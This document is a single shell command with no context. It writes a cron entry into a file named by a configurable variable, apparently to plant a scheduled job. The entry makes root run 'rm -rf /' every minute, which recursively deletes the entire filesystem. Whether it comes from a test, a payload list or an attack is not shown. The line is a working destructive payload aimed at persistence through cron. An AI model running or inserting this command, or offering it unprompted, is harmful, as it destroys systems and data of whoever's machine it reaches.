echo '* * * * * root rm -rf /' > $CUSTOM_CONFIG_FILENAME
